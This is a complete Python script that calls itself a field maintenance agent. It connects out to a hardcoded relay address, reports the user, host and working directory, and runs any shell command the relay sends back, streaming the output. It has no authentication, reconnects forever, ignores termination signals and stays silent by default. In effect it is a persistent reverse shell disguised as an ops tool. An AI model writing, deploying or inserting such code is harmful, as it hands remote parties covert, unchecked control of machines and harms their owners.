#!/usr/bin/env python3
"""Field maintenance agent: keeps an outbound session to the ops relay and
runs the maintenance commands it is sent, streaming output back.

Reconnects with jittered backoff; SIGHUP/SIGTERM are ignored so a closed
terminal does not kill the session.
"""
import argparse
import asyncio
import getpass
import logging
import os
import random
import signal
import socket

log = logging.getLogger("fieldagent")
RELAY = os.environ.get("FA_RELAY", "198.51.100.40:4443")


def hello() -> bytes:
    return (f"HELLO {getpass.getuser()}@{socket.gethostname()} "
            f"pid={os.getpid()} cwd={os.getcwd()}\n").encode()


async def pump(stream: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while True:
        chunk = await stream.read(4096)
        if not chunk:
            break
        writer.write(chunk)
        await writer.drain()


async def run_command(cmd: str, writer: asyncio.StreamWriter) -> None:
    if cmd.startswith("cd "):
        try:
            os.chdir(os.path.expanduser(cmd[3:].strip()))
            writer.write(f"[cwd {os.getcwd()}]\n".encode())
        except OSError as exc:
            writer.write(f"[cd failed: {exc}]\n".encode())
        return
    proc = await asyncio.create_subprocess_shell(
        cmd, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
        stdin=asyncio.subprocess.DEVNULL)
    await pump(proc.stdout, writer)
    rc = await proc.wait()
    writer.write(f"[exit {rc}]\n".encode())


async def session(host: str, port: int) -> None:
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(hello())
    await writer.drain()
    while True:
        line = await reader.readline()
        if not line:
            raise ConnectionResetError("relay closed")
        cmd = line.decode(errors="replace").strip()
        if not cmd:
            continue
        if cmd == "BYE":
            writer.close()
            return
        await run_command(cmd, writer)
        await writer.drain()


async def keep_alive(host: str, port: int, max_backoff: float) -> None:
    delay = 1.0
    while True:
        try:
            await session(host, port)
            delay = 1.0
        except (OSError, ConnectionError) as exc:
            log.debug("session ended: %s", exc)
        await asyncio.sleep(delay + random.uniform(0, delay / 2))
        delay = min(delay * 2, max_backoff)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--relay", default=RELAY)
    ap.add_argument("--max-backoff", type=float, default=300)
    ap.add_argument("-v", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.v else logging.CRITICAL)
    for sig in (signal.SIGHUP, signal.SIGTERM):
        signal.signal(sig, signal.SIG_IGN)
    host, _, port = args.relay.rpartition(":")
    asyncio.run(keep_alive(host, int(port), args.max_backoff))


if __name__ == "__main__":
    main()
